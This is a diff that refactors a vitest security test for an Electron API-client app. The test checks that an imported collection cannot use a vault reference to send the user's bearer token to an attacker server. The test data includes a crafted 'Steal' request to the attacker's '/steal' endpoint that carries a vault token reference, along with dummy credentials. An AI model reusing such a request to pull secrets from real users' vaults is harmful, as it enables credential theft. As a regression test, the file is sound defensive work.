@@ -1,46 +1,10 @@
-import { join } from 'node:path';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { createCore, type Core } from '../../electron/core/create-core';
-import { createDispatcher, type CallContext } from '../../electron/ipc/dispatcher';
-import { createHandlers } from '../../electron/ipc/handlers';
-import { createMemorySecretValueStore } from '../../electron/core/variables/secret-value-store';
-import { makeTempDir } from '../support/temp-dir';
-import { startAttacker, type Attacker } from '../support/attacker-server';
+import { describe, expect, it } from 'vitest';
+import { useUserCore } from '../support/user-core';
 
 // The user's identity, found by the default chain on this machine.
 const USER_KEYS = { accessKeyId: 'AKIAUSERIDENTITY0004', secretAccessKey: 'userSecret/1111111111111111111111111111' };
-
-const context: CallContext = { emit: () => undefined };
-type Answer = { ok: boolean; value?: unknown; error?: { code: string; message: string } };
-let attacker: Attacker;
-let home: ReturnType<typeof makeTempDir>;
-let core: Core;
-let call: (channel: string, input: unknown) => Promise<Answer>;
-
-beforeAll(async () => {
-  attacker = await startAttacker();
-});
-afterAll(async () => {
-  await attacker.close();
-});
-beforeEach(() => {
-  home = makeTempDir('shomei-vault-ref-');
-  core = createCore({
-    host: 'test',
-    version: '0.0.0-test',
-    dataDir: join(home.dir, 'data'),
-    workingDirectory: home.dir,
-    env: { AWS_ACCESS_KEY_ID: USER_KEYS.accessKeyId, AWS_SECRET_ACCESS_KEY: USER_KEYS.secretAccessKey },
-    secrets: createMemorySecretValueStore(),
-  });
-  const dispatcher = createDispatcher(createHandlers(core));
-  call = (channel, input) => dispatcher.dispatch(channel, input, context) as Promise<Answer>;
-  attacker.received.length = 0;
-});
-afterEach(async () => {
-  await core.close();
-  home.remove();
-});
+const session = useUserCore('shomei-vault-ref-', USER_KEYS);
+const call = (channel: string, input: unknown) => session.call(channel, input);
 
 const USER_TOKEN = 'user-bearer-token-5c1e9f';
 
@@ -56,7 +20,9 @@ describe("an imported auth field naming a value of the user's vault", () => {
     const mine = await call('collections:create-collection', { name: 'Mine' });
     const collectionId = (mine.value as { id: string }).id;
     const secretId = 'auth_0123456789abcdef';
-    expect(await call('auth:store-secrets', { values: [{ id: secretId, value: USER_TOKEN }] })).toMatchObject({ ok: true });
+    expect(await call('auth:store-secrets', { values: [{ id: secretId, value: USER_TOKEN }] })).toMatchObject({
+      ok: true,
+    });
     const saved = await call('collections:save-request', {
       placement: { collectionId },
       request: {
@@ -88,7 +54,7 @@ describe("an imported auth field naming a value of the user's vault", () => {
             id: 'steal',
             name: 'Steal',
             method: 'GET',
-            url: `${attacker.origin}/steal`,
+            url: `${session.attacker.origin}/steal`,
             auth: { type: 'bearer', tokenRef: { kind: 'vault', id: secretId } },
           },
         ],
@@ -103,7 +69,7 @@ describe("an imported auth field naming a value of the user's vault", () => {
       why: "it named a value kept in the sender's vault, which this machine does not have: set it in the Auth tab",
     });
     const importedId = (imported.value as { collectionId: string }).collectionId;
-    const [item] = core.collections.getCollection(importedId).items;
+    const [item] = session.core.collections.getCollection(importedId).items;
     if (item?.kind !== 'request') throw new Error('expected one request');
     expect(item.auth).toEqual({ type: 'bearer', tokenRef: { kind: 'variables', text: '' }, prefix: 'Bearer' });
 
@@ -111,7 +77,7 @@ describe("an imported auth field naming a value of the user's vault", () => {
     const { kind: _kind, id, ...request } = item;
     const sent = await call('request:send-draft', { requestId: 'r-1', request, savedRequestId: id });
     expect(sent).toMatchObject({ ok: false });
-    for (const received of attacker.received) expect(received.headers).not.toContain(USER_TOKEN);
-    expect(await core.secrets.get(secretId)).toBe(USER_TOKEN);
+    for (const received of session.attacker.received) expect(received.headers).not.toContain(USER_TOKEN);
+    expect(await session.core.secrets.get(secretId)).toBe(USER_TOKEN);
   });
 });
